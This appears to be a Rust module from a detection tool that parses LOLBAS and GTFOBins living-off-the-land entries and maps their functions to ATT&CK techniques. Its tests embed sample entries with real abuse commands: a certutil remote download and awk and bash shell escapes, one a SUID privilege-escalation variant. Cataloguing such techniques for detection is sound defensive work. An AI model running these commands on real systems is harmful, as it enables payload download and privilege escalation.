//! Living-off-the-land binaries: LOLBAS (`yml/<Category>/<Name>.yml`) and GTFOBins (the
//! current extension-less `_gtfobins/<name>` files between `---` and `...`, and the legacy
//! `_gtfobins/<name>.md` front matter). GTFOBins maps its functions to ATT&CK in
//! `_data/functions.yml`; without that file the mapping of its current release is used.

use std::collections::BTreeMap;

use serde::Deserialize;

use aegis_domain::detection::technique_from_tag;
use aegis_domain::template::{BinaryUse, LolBinary, TemplateSource};

use super::collection::FeedFile;
use super::rule_fields::utf8;
use super::yaml::document;

#[derive(Debug, Deserialize)]
#[serde(rename_all = "PascalCase")]
struct LolbasEntry {
    name: Option<String>,
    #[serde(default)]
    description: String,
    author: Option<String>,
    #[serde(default)]
    commands: Vec<LolbasCommand>,
    #[serde(default, rename = "Full_Path")]
    full_path: Option<Vec<LolbasPath>>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "PascalCase")]
struct LolbasCommand {
    command: Option<String>,
    #[serde(default)]
    description: String,
    #[serde(default)]
    category: String,
    privileges: Option<String>,
    #[serde(rename = "MitreID")]
    mitre_id: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "PascalCase")]
struct LolbasPath {
    path: Option<String>,
}

/// Whether a path in a LOLBAS import is an entry (the template file documents the format).
#[must_use]
pub fn is_lolbas_entry(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    (name.ends_with(".yml") || name.ends_with(".yaml")) && !name.starts_with("yml-template")
}

/// One LOLBAS entry.
///
/// # Errors
/// Why the file yields no binary: not UTF-8, not YAML, no name.
pub fn parse_lolbas_file(file: &FeedFile) -> Result<LolBinary, String> {
    let entry: LolbasEntry = document(utf8(&file.bytes)?, "a LOLBAS entry")?;
    let name = entry
        .name
        .map(|n| n.trim().to_owned())
        .filter(|n| !n.is_empty())
        .ok_or("the entry has no Name")?;
    let uses = entry
        .commands
        .into_iter()
        .map(|c| BinaryUse {
            function: c.category.trim().to_owned(),
            description: c.description.trim().to_owned(),
            command: c.command.unwrap_or_default().trim().to_owned(),
            privileges: c.privileges.map(|p| p.trim().to_owned()),
            techniques: c
                .mitre_id
                .as_deref()
                .and_then(technique_from_tag)
                .into_iter()
                .collect(),
            platforms: vec!["windows".to_owned()],
        })
        .collect();
    Ok(LolBinary {
        source: TemplateSource::Lolbas,
        name,
        description: entry.description.trim().to_owned(),
        author: entry.author.map(|a| a.trim().to_owned()),
        paths: entry
            .full_path
            .unwrap_or_default()
            .into_iter()
            .filter_map(|p| p.path)
            .collect(),
        uses,
        path: file.path.clone(),
    })
}

/// GTFOBins function name → the ATT&CK techniques it enables.
pub type FunctionTechniques = BTreeMap<String, Vec<String>>;

/// The mapping of GTFOBins' current `_data/functions.yml`, with the legacy function names
/// mapped like their current equivalents, for imports that do not carry the file.
#[must_use]
pub fn default_function_techniques() -> FunctionTechniques {
    let pairs: [(&str, &[&str]); 17] = [
        ("shell", &["T1059"]),
        ("command", &["T1059"]),
        ("reverse-shell", &["T1059", "T1071"]),
        ("non-interactive-reverse-shell", &["T1059", "T1071"]),
        ("bind-shell", &["T1059", "T1071"]),
        ("non-interactive-bind-shell", &["T1059", "T1071"]),
        ("file-write", &["T1565"]),
        ("file-read", &["T1005"]),
        ("upload", &["T1041"]),
        ("file-upload", &["T1041"]),
        ("download", &["T1105"]),
        ("file-download", &["T1105"]),
        ("library-load", &["T1574"]),
        ("privilege-escalation", &["T1548"]),
        ("suid", &["T1548"]),
        ("sudo", &["T1548"]),
        ("capabilities", &["T1548"]),
    ];
    let mut mapping: FunctionTechniques = pairs
        .into_iter()
        .map(|(f, t)| (f.to_owned(), t.iter().map(|&s| s.to_owned()).collect()))
        .collect();
    mapping.insert("limited-suid".to_owned(), vec!["T1548".to_owned()]);
    mapping
}

#[derive(Debug, Deserialize)]
struct FunctionDescription {
    #[serde(default)]
    mitre: Vec<String>,
}

/// The function → technique mapping of a GTFOBins `_data/functions.yml`.
///
/// # Errors
/// Why the file cannot be read as the mapping.
pub fn parse_function_techniques(file: &FeedFile) -> Result<FunctionTechniques, String> {
    let functions: BTreeMap<String, Option<FunctionDescription>> =
        document(utf8(&file.bytes)?, "the GTFOBins function list")?;
    Ok(functions
        .into_iter()
        .filter_map(|(name, description)| {
            let techniques: Vec<String> = description?
                .mitre
                .iter()
                .filter_map(|t| technique_from_tag(t))
                .collect();
            (!techniques.is_empty()).then_some((name, techniques))
        })
        .collect())
}

#[derive(Debug, Deserialize)]
struct GtfobinsEntry {
    #[serde(default)]
    description: Option<String>,
    #[serde(default)]
    functions: BTreeMap<String, Option<Vec<GtfobinsExample>>>,
}

#[derive(Debug, Deserialize)]
struct GtfobinsExample {
    code: Option<String>,
    comment: Option<String>,
    description: Option<String>,
    #[serde(default)]
    contexts: Option<BTreeMap<String, serde_json::Value>>,
}

/// The YAML between the opening `---` and the closing `---` or `...`.
fn front_matter(text: &str) -> Option<&str> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut lines = text.split_inclusive('\n');
    let first = lines.next()?;
    if first.trim_end() != "---" {
        return None;
    }
    let start = first.len();
    let mut offset = start;
    for line in lines {
        let marker = line.trim_end();
        if marker == "---" || marker == "..." {
            return Some(&text[start..offset]);
        }
        offset += line.len();
    }
    Some(&text[start..])
}

/// Whether a path in a GTFOBins import is an executable's page or the function list.
#[must_use]
pub fn is_gtfobins_file(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    if name.starts_with('.') {
        return false;
    }
    if name == "functions.yml" {
        return true;
    }
    let in_folder = path.contains("_gtfobins/") || !path.contains('/');
    let plain = !name.contains('.') || name.ends_with(".md");
    let documentation = ["readme", "contributing", "license", "changelog"]
        .iter()
        .any(|doc| name.to_ascii_lowercase().starts_with(doc));
    in_folder && plain && !documentation
}

/// One GTFOBins executable.
///
/// # Errors
/// Why the file yields no binary: not UTF-8, no front matter, not YAML.
pub fn parse_gtfobins_file(
    file: &FeedFile,
    mapping: &FunctionTechniques,
) -> Result<LolBinary, String> {
    let text = utf8(&file.bytes)?;
    let yaml = front_matter(text).ok_or("no YAML front matter (--- … --- or ...)")?;
    let entry: GtfobinsEntry = document(yaml, "a GTFOBins page")?;
    let file_name = file.path.rsplit('/').next().unwrap_or(&file.path);
    let name = file_name
        .strip_suffix(".md")
        .unwrap_or(file_name)
        .to_owned();
    if name.is_empty() {
        return Err("the file has no name".to_owned());
    }
    let mut uses = Vec::new();
    for (function, examples) in entry.functions {
        let techniques = mapping.get(&function).cloned().unwrap_or_default();
        for example in examples.unwrap_or_default() {
            let privileges = example
                .contexts
                .map(|contexts| contexts.into_keys().collect::<Vec<_>>().join(", "))
                .filter(|p| !p.is_empty())
                .or_else(|| {
                    ["suid", "sudo", "capabilities", "limited-suid"]
                        .contains(&function.as_str())
                        .then(|| function.clone())
                });
            uses.push(BinaryUse {
                function: function.clone(),
                description: example
                    .comment
                    .or(example.description)
                    .unwrap_or_default()
                    .trim()
                    .to_owned(),
                command: example.code.unwrap_or_default().trim().to_owned(),
                privileges,
                techniques: techniques.clone(),
                platforms: vec!["linux".to_owned()],
            });
        }
    }
    Ok(LolBinary {
        source: TemplateSource::Gtfobins,
        name,
        description: entry.description.unwrap_or_default().trim().to_owned(),
        author: None,
        paths: Vec::new(),
        uses,
        path: file.path.clone(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(path: &str, text: &str) -> FeedFile {
        FeedFile {
            path: path.to_owned(),
            bytes: text.as_bytes().to_vec(),
        }
    }

    #[test]
    fn a_lolbas_entry_keeps_each_command_with_its_technique() {
        let text = "---\nName: Certutil.exe\nDescription: certificates\nAuthor: Oddvar Moe\nCreated: 2018-05-25\n\
            Commands:\n  - Command: certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}\n    Description: Download\n\
            \x20   Usecase: Download file\n    Category: Download\n    Privileges: User\n    MitreID: T1105\n\
            \x20   OperatingSystem: Windows 10, Windows 11\n    Tags:\n      - Application: GUI\n\
            Full_Path:\n  - Path: C:\\Windows\\System32\\certutil.exe\n";
        let binary = parse_lolbas_file(&file("yml/OSBinaries/Certutil.yml", text));
        let binary = binary.unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(binary.name, "Certutil.exe");
        assert_eq!(binary.uses[0].techniques, ["T1105"]);
        assert_eq!(binary.uses[0].privileges.as_deref(), Some("User"));
        assert_eq!(binary.paths, ["C:\\Windows\\System32\\certutil.exe"]);
        assert!(!is_lolbas_entry("YML-Template.yml"));
        assert!(is_lolbas_entry("yml/OSBinaries/Certutil.yml"));
    }

    #[test]
    fn a_current_gtfobins_page_maps_functions_through_the_function_list() {
        let functions = "shell:\n  label: Shell\n  mitre:\n  - T1059\n  extra:\n    tty: &tty\n      false: dummy\n\
            file-read:\n  mitre:\n  - T1005\n  extra:\n    tty: *tty\ninherit:\n  label: Inherit\n";
        let mapping =
            parse_function_techniques(&file("_data/functions.yml", functions)).unwrap_or_default();
        assert_eq!(
            mapping.get("shell").cloned(),
            Some(vec!["T1059".to_owned()])
        );
        let page = "---\nfunctions:\n  shell:\n  - code: bash\n    contexts:\n      sudo:\n      suid:\n        code: bash -p\n      unprivileged:\n\
            \x20 file-read:\n  - code: |-\n      bash -c 'echo \"$(</path)\"'\n  inherit:\n  - from: less\n...\n";
        let binary = parse_gtfobins_file(&file("_gtfobins/bash", page), &mapping)
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(binary.name, "bash");
        assert_eq!(binary.techniques(), ["T1005", "T1059"]);
        let shell = binary.uses.iter().find(|u| u.function == "shell");
        assert_eq!(
            shell.and_then(|u| u.privileges.clone()).as_deref(),
            Some("sudo, suid, unprivileged")
        );
        assert_eq!(binary.templates().len(), 2);
    }

    #[test]
    fn a_legacy_gtfobins_page_uses_the_default_mapping() {
        let page = "---\nfunctions:\n  shell:\n    - code: awk 'BEGIN {system(\"/bin/sh\")}'\n  suid:\n    - code: ./awk 'BEGIN {system(\"/bin/sh\")}'\n---\n";
        let binary = parse_gtfobins_file(
            &file("_gtfobins/awk.md", page),
            &default_function_techniques(),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(binary.name, "awk");
        assert_eq!(binary.techniques(), ["T1059", "T1548"]);
        assert!(is_gtfobins_file("_gtfobins/awk.md"));
        assert!(is_gtfobins_file("repo/_gtfobins/bash"));
        assert!(is_gtfobins_file("_data/functions.yml"));
        assert!(!is_gtfobins_file("_data/contexts.yml"));
        assert!(!is_gtfobins_file("CONTRIBUTING.md"));
        assert!(
            parse_gtfobins_file(
                &file("_gtfobins/x", "no front matter"),
                &default_function_techniques()
            )
            .is_err()
        );
    }
}
